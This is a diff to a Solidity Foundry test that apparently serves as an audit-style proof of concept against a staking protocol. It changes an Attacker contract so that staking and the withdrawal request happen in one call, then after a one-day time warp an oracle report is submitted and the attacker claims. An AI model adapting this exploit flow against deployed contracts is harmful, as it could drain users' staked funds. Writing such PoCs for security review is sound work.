@@ -5,19 +5,23 @@ pragma solidity 0.8.30;
 import "../Base.sol";
 
 contract Attacker {
+    uint256 private id;
+
     constructor() payable {}
 
+    function ask(StakeToken token, WithdrawalQueue queue, StakePool pool) external {
+        uint256 shares = pool.stake{value: 50 ether}(address(this));
+        token.approve(address(queue), type(uint256).max);
+        id = queue.request(shares, address(this));
+    }
+
     function run(
-        StakeToken token,
         WithdrawalQueue queue,
         StakePool pool,
         ReportOracle oracle,
         IReports.Report calldata report,
         bytes[] calldata signatures
     ) external {
-        uint256 shares = pool.stake{value: 50 ether}(address(this));
-        token.approve(address(queue), type(uint256).max);
-        uint256 id = queue.request(shares, address(this));
         oracle.submit(report, signatures);
         pool.finalize(1);
         try queue.claim(id, 0, address(this)) {} catch {
@@ -38,7 +42,9 @@ contract Proof is Base {
     }
 
     function exploit() public {
-        other.run(token, queue, pool, oracle, _report(3, 0, 0), signatures);
+        other.ask(token, queue, pool);
+        vm.warp(block.timestamp + 1 days);
+        other.run(queue, pool, oracle, _report(3, 0, 0), signatures);
     }
 
     function test_Exploit() public {
